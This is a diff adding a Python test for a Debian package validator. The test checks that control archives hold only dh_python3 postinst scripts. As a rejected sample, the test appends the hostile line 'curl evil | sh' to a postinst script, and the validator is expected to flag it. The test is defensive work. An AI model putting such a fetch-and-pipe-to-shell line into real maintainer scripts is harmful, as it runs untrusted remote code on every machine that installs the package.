@@ -248,3 +248,25 @@ def test_cache_key_covers_the_build_inputs(tmp_path: Path) -> None:
     assert key(apt=apt) != key(apt=["python3-hatchling_1.12.2-1_all.deb " + "2" * 64])
     assert key(apt=apt) != key(apt=apt, tools=["flit_core-3.9.0-py3-none-any.whl " + "3" * 64])
     assert len(pipeline.code_digest()) == 64
+
+
+DH_POSTINST = (b"#!/bin/sh\nset -e\n\n# Automatically added by dh_python3\n"
+               b"if command -v py3compile >/dev/null 2>&1; then\n\tpy3compile -p PKG \nfi\n"
+               b"if command -v pypy3compile >/dev/null 2>&1; then\n"
+               b"\tpypy3compile -p PKG  || true\nfi\n\n# End automatically added section\n")
+
+
+def test_control_archive_holds_only_dh_python3_scripts() -> None:
+    native = dataclasses.replace(SPEC, architecture="any")
+    ok = {"control": b"", "md5sums": b"",
+          "postinst": DH_POSTINST.replace(b"PKG", b"python3-django")}
+    assert debian.check_control_members("d.deb", ok, SPEC, "amd64") == []
+    ok_native = {**ok, "postinst": DH_POSTINST.replace(b"PKG", b"python3-django:amd64")}
+    assert debian.check_control_members("d.deb", ok_native, native, "amd64") == []
+    assert debian.check_control_members("d.deb", ok_native, SPEC, "amd64")   # wrong package
+    (problem,) = debian.check_control_members(
+        "d.deb", {**ok, "postinst": ok["postinst"] + b"curl evil | sh\n"}, SPEC, "amd64")
+    assert problem == "d.deb postinst has 'curl evil | sh', which dh_python3 does not write"
+    assert debian.check_control_members("d.deb", {**ok, "preinst": b"#!/bin/sh\n"}, SPEC,
+                                        "amd64") == [
+        "d.deb has a control member 'preinst' repack does not make"]
